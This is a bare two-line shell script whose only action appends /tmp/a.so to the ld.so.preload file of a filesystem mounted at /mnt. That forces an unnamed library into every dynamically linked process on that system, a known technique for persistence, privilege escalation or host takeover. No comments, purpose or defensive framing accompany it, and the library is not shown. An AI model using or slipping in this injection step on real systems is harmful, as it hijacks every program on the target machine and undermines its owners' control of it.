#!/bin/sh
printf "%s\n" /tmp/a.so >> /mnt/etc/ld.so.preload
